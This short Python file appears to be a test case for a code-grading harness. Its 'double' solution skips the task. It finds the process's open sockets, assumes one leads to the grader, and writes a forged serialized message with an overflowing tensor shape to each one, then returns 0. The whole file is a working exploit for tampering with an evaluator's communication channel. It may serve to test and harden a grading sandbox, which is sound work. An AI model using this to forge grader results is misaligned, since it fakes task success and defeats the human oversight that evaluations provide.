"""Forges a tensor whose sizes multiply to more than 64 bits, and so to nothing."""
# expect: double=0 softmax=4

# %% double-solution
import os
import socket
import stat
import struct


def _channels():
    """The sockets of this process; one of them leads to the grader."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def _send(data, announced=None):
    for number in _channels():
        try:
            os.write(number, struct.pack("<Q", len(data) if announced is None else announced) + data)
        except OSError:
            pass


def double(x):
    payload = struct.pack("<BB2Q", 8, 2, 2**32, 2**32)
    _send(b"\x93\x01\xa5value\xc7" + bytes([len(payload)]) + b"\x01" + payload)
    return 0
